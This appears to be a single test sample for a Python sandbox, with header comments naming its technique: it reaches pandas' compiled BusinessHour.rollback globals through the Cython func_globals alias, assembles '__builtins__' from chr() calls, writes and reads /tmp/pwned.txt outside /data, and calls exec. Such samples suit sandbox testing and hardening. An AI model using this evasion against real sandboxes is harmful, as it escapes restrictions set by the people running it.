# source: Cython cyfunction func_globals alias; operator.itemgetter as the call form for the key
# family: cyfunction func_globals of pandas' compiled offsets module (BusinessHour.rollback), read through getattr with a literal name and operator.itemgetter; writes a file outside /data
# goal: writes /tmp/pwned.txt with builtins.open and reads it back, then imports this
import operator
import pandas as pd

f = getattr(pd.offsets.BusinessHour.rollback, "func_globals")
u = chr(95) * 2
b = operator.itemgetter(u + "builtins" + u)(f)
p = chr(47) + "tmp" + chr(47) + "pwned.txt"
w = b.open(p, "w")
w.write("written by the script")
w.close()
print(b.open(p).read())
b.exec("import this")
